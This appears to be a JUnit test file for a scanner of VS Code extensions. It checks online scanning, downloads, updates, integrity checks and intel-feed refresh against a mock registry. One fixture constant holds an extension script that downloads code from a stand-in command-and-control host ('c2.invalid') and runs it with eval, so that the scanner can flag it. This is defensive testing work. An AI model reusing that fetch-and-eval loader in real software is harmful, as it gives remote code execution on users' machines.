package dev.vsxray.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.online.http.HostScope;
import dev.vsxray.online.http.Web;
import dev.vsxray.online.provenance.CodeHosts;
import dev.vsxray.online.provenance.ControlManifests;
import dev.vsxray.online.provenance.OnlineServices;
import dev.vsxray.online.registry.GalleryRegistry;
import dev.vsxray.online.registry.OpenVsxRegistry;
import dev.vsxray.online.registry.Registries;
import dev.vsxray.online.workspace.ContainerFeatures;
import dev.vsxray.scanner.Scanner;
import dev.vsxray.scanner.locate.Machine;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import mockwebserver3.Dispatcher;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.RecordedRequest;
import okio.Buffer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The commands that go online, against registries on this machine. */
class OnlineCommandsTest {

    private static final String HARMLESS = "exports.activate = () => 7;";

    /** Inert: the host does not exist. */
    private static final String RUNS_WHAT_IT_FETCHES = "const https = require('https');\n"
            + "exports.activate = () => https.get('https://c2.invalid/x', (r) => {\n"
            + "  let t = ''; r.on('data', (d) => (t += d)); r.on('end', () => eval(t)); });";

    private final MockWebServer server = new MockWebServer();
    private final Map<String, MockResponse> answers = new TreeMap<>();

    @TempDir
    private Path folder;

    @BeforeEach
    void start() throws IOException {
        server.setDispatcher(new Dispatcher() {
            @Override
            public MockResponse dispatch(RecordedRequest request) {
                String asked = request.getTarget() + " "
                        + Optional.ofNullable(request.getBody())
                                .map(body -> body.utf8())
                                .orElse("");
                return answers.entrySet().stream()
                        .filter(answer -> asked.contains(answer.getKey()))
                        .map(Map.Entry::getValue)
                        .findFirst()
                        .orElse(new MockResponse.Builder().code(404).build());
            }
        });
        server.start();
    }

    @AfterEach
    void stop() {
        server.close();
    }

    @Test
    void aNameWithoutOnlineIsExplained() {
        CommandRun run = run("scan", "acme.tool");

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).contains("PATH acme.tool: there is no such file or folder.", "add --online");
        assertThat(server.getRequestCount()).isZero();
    }

    @Test
    void scansAnExtensionBeforeItIsInstalled() throws Exception {
        offer("1.2.0", RUNS_WHAT_IT_FETCHES);

        CommandRun run = run("scan", "acme.tool", "--online", "--format", "json");

        assertThat(run.exitCode()).as(run.err()).isEqualTo(1);
        assertThat(run.out())
                .contains("\"online\" : true", "\"id\" : \"acme.tool\"", "network-data-becomes-code")
                .contains("\"registry\" : \"vscode-marketplace\"")
                .containsPattern("\"topic\" : \"installs\",\\s+\"known\" : true,\\s+\"value\" : \"41\"");
    }

    @Test
    void whatCannotBeFetchedIsInTheReport() throws Exception {
        offer("1.2.0", HARMLESS);

        CommandRun run = run("scan", "acme.tool", "acme.absent", "--online", "--format", "json");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).contains("answered and does not have it", "\"subject\" : \"acme.absent\"");
    }

    @Test
    void whereNothingCanBeFetchedTheMachineIsNotScannedInstead() {
        answers.put("/gallery", new MockResponse.Builder().code(403).build());

        CommandRun run = run("scan", "acme.tool", "--online");

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).contains("answered with status 403", "nothing of what was named could be fetched");
    }

    @Test
    void aVersionYoungerThanDemandedIsAFinding() throws Exception {
        offer("1.2.0", HARMLESS);

        assertThat(run("scan", "acme.tool", "--online", "--min-age", "7d", "-v").out())
                .contains("The version is younger than you demand");
        assertThat(run("scan", "acme.tool", "--online", "--min-age", "2d", "-v").out())
                .doesNotContain("The version is younger than you demand");
        assertThat(run("scan", "acme.tool", "--online", "--min-age", "soon").err())
                .contains("such as 7d or 36h");
    }

    @Test
    void scansWhatAWorkspaceRecommends() throws Exception {
        offer("1.2.0", HARMLESS);
        Files.createDirectories(folder.resolve("work/.vscode"));
        Files.writeString(
                folder.resolve("work/.vscode/extensions.json"), "{ // ours\n \"recommendations\": [\"acme.tool\",] }");

        CommandRun run = run("scan", "--online", "--workspace", "work", "-v");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).contains("acme.tool");
        assertThat(run("scan", "--workspace", "work").err()).contains("add --online");
    }

    /** The registry of containers is asked too, and what it does not have is told. */
    @Test
    void namesFeaturesThatItCouldNotLookAt() throws Exception {
        offer("1.2.0", HARMLESS);
        Files.createDirectories(folder.resolve("work"));
        Files.writeString(
                folder.resolve("work/.devcontainer.json"),
                "{\"extensions\": [\"acme.tool\"], \"features\": {\"ghcr.io/acme/features/none:1\": {}, \"docker\": {}}}");

        assertThat(run("scan", "--online", "--workspace", "work").err())
                .contains(
                        "What the feature 'ghcr.io/acme/features/none:1' of the development container installs was not"
                                + " looked at: its registry does not have it.")
                .contains("'docker' of the development container installs was not looked at: only features of the"
                        + " workspace and of ghcr.io are.");
    }

    @Test
    void keepsWhatItDownloadedOnlyBelowTheThreshold() throws Exception {
        offer("1.2.0", HARMLESS);
        CommandRun kept = run("download", "acme.tool", "--to", "got");
        assertThat(kept.exitCode()).as(kept.err()).isZero();
        assertThat(folder.resolve("got/acme.tool-1.2.0.vsix")).exists();

        offer("1.3.0", RUNS_WHAT_IT_FETCHES);
        CommandRun refused = run("download", "acme.tool", "--to", "got");
        assertThat(refused.exitCode()).isEqualTo(1);
        assertThat(refused.err()).contains("acme.tool-1.3.0.vsix was not kept");
        assertThat(folder.resolve("got/acme.tool-1.3.0.vsix")).doesNotExist();
        run("download", "acme.tool", "--to", "got", "--keep");
        assertThat(folder.resolve("got/acme.tool-1.3.0.vsix")).exists();
    }

    @Test
    void tellsWhatAnUpdateWouldChange() throws Exception {
        Path extensions = installed("1.2.0");
        offer("1.3.0", RUNS_WHAT_IT_FETCHES);

        CommandRun run = run("updates", extensions.toString());

        assertThat(run.exitCode()).as(run.err()).isEqualTo(1);
        assertThat(run.out()).contains("acme.tool  1.2.0 -> 1.3.0");
    }

    @Test
    void noUpdateIsSaidToo() throws Exception {
        Path extensions = installed("1.2.0");
        offer("1.2.0", HARMLESS);

        CommandRun run = run("updates", extensions.toString());

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).isEqualTo("No update waits.\n");
    }

    @Test
    void comparesWhatIsInstalledWithWhatTheRegistryServes() throws Exception {
        Path extensions = installed("1.2.0");
        offer("1.2.0", "exports.activate = () => 8;");

        CommandRun run = run("scan", extensions.toString(), "--online", "--integrity", "--fail-on", "never", "-v");

        assertThat(run.out()).contains("A script or manifest is not the one its registry serves");
    }

    @Test
    void renewsIntelligenceAndKeepsWhatIsInForceWhereAFeedFails() throws Exception {
        Files.writeString(
                folder.resolve("feeds.json"),
                "{\"feeds\": [{\"name\": \"ours\", \"location\": \"" + server.url("/list.txt")
                        + "\", \"format\": \"list\"}, {\"name\": \"gone\", \"location\": \"" + server.url("/gone")
                        + "\", \"format\": \"list\"}]}");
        answers.put(
                "/list.txt",
                new MockResponse.Builder().body("acme.bad\nacme.worse\n").build());

        CommandRun first = run("intel", "update", "ours", "--feeds", "feeds.json");
        assertThat(first.exitCode()).as(first.err()).isZero();
        assertThat(first.out()).isEqualTo("ours: extensions +2 -0 ~0; indicators +0 -0 ~0\n");

        answers.put("/list.txt", new MockResponse.Builder().code(403).build());
        CommandRun second = run("intel", "update", "--feeds", "feeds.json");
        assertThat(second.exitCode()).isEqualTo(3);
        assertThat(second.err())
                .contains("ours: failed.", "What was fetched at 2026-11-23T02:00:07Z stays in force.")
                .contains("gone: failed. There is nothing at", "Nothing of this feed is in force.");
        assertThat(run("intel", "update", "other", "--feeds", "feeds.json").err())
                .contains("there is no feed other; expected one of ours, gone.");
    }

    /** A folder of extensions as VS Code keeps it, with one that came from the Marketplace. */
    private Path installed(String version) throws IOException {
        Path extensions = folder.resolve("home/.vscode/extensions");
        Path extension = Files.createDirectories(extensions.resolve("acme.tool-" + version));
        Files.writeString(extension.resolve("package.json"), manifest(version));
        Files.writeString(extension.resolve("main.js"), HARMLESS);
        Files.writeString(
                extensions.resolve("extensions.json"),
                "[{\"identifier\": {\"id\": \"acme.tool\"}, \"version\": \"" + version
                        + "\", \"relativeLocation\": \"acme.tool-" + version
                        + "\", \"metadata\": {\"source\": \"gallery\", \"id\": \"0f0e\"}}]");
        return extensions;
    }

    private void offer(String version, String script) throws IOException {
        String listing =
                "{\"results\": [{\"extensions\": [{\"extensionName\": \"tool\", \"displayName\": \"Acme Tool\","
                        + " \"flags\": \"validated\", \"releaseDate\": \"2024-01-01T00:00:00Z\","
                        + " \"publisher\": {\"publisherName\": \"acme\", \"displayName\": \"Acme\"},"
                        + " \"statistics\": [{\"statisticName\": \"install\", \"value\": 41}],"
                        + " \"versions\": [{\"version\": \"" + version
                        + "\", \"lastUpdated\": \"2026-11-20T00:00:00Z\"}]}]}]}";
        answers.put(
                "\"value\":\"acme.tool\"",
                new MockResponse.Builder().body(listing).build());
        answers.put(
                "acme.absent",
                new MockResponse.Builder()
                        .body("{\"results\": [{\"extensions\": []}]}")
                        .build());
        Buffer vsix = new Buffer();
        try (ZipOutputStream zip = new ZipOutputStream(vsix.outputStream())) {
            for (Map.Entry<String, String> file : Map.of(
                            "extension/package.json", manifest(version), "extension/main.js", script)
                    .entrySet()) {
                zip.putNextEntry(new ZipEntry(file.getKey()));
                zip.write(file.getValue().getBytes(StandardCharsets.UTF_8));
            }
        }
        answers.put("/vspackage", new MockResponse.Builder().body(vsix).build());
    }

    private static String manifest(String version) {
        return "{\"publisher\": \"acme\", \"name\": \"tool\", \"version\": \"" + version
                + "\", \"main\": \"./main.js\", \"activationEvents\": [\"*\"], \"engines\": {\"vscode\": \"^1.90.0\"}}";
    }

    private CommandRun run(String... arguments) {
        Machine machine = new Machine(Machine.Os.LINUX, folder.resolve("home"), folder, Map.of());
        Clock clock = Clock.fixed(Instant.parse("2026-11-23T02:00:07Z"), ZoneOffset.UTC);
        return CommandRun.in(folder, new Scanner(machine, "", "test", clock)::scan)
                .with("VSXRAY_STATE", folder.resolve("state").toString())
                .asking((web, gallery) -> services(web))
                .run(arguments);
    }

    private OnlineServices services(Web web) {
        HostScope here = HostScope.of("localhost", "127.0.0.1");
        URI base = server.url("/").uri();
        return new OnlineServices(
                new Registries(
                        new GalleryRegistry(Registries.MARKETPLACE, base.resolve("/gallery"), here, web),
                        new OpenVsxRegistry(Registries.OPEN_VSX, base.resolve("/open"), here, web),
                        Map.of(),
                        Optional.empty()),
                new ControlManifests(web, Map.of()),
                new CodeHosts(web, base.resolve("/pages"), base.resolve("/raw")),
                new ContainerFeatures(web, base, here));
    }
}
